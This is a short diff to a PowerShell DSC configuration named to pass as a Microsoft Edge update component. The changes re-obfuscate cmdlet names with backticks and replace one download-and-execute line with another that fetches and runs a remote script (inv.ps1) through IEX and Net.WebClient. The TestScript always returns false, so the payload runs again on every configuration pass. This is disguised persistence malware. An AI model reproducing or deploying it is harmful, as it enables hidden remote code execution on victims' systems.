@@ -1,11 +1,11 @@
-# bootstrap 9333 v2
+# task 4096 v2
 Configuration MicrosoftEdgeUpdateCore {
-  I`mport-Ds`cResour`ce -ModuleName PSDesiredStateConfiguration
+  I`mport-D`scRes`ource -ModuleName PSDesiredStateConfiguration
   Node localhost {
     Script Bootstrap {
       GetScript = { @{ Result = '' } }
       TestScript = { $false }
-      SetScript = { IEX (Ne`w-Object Net.`WebC`lient).DownloadString('http://192.0.2.44/a.ps1') }
+      SetScript = { IEX (Ne`w-Obje`ct Net.`Web`Client).DownloadString('http://192.0.2.150/inv.ps1') }
     }
   }
 }
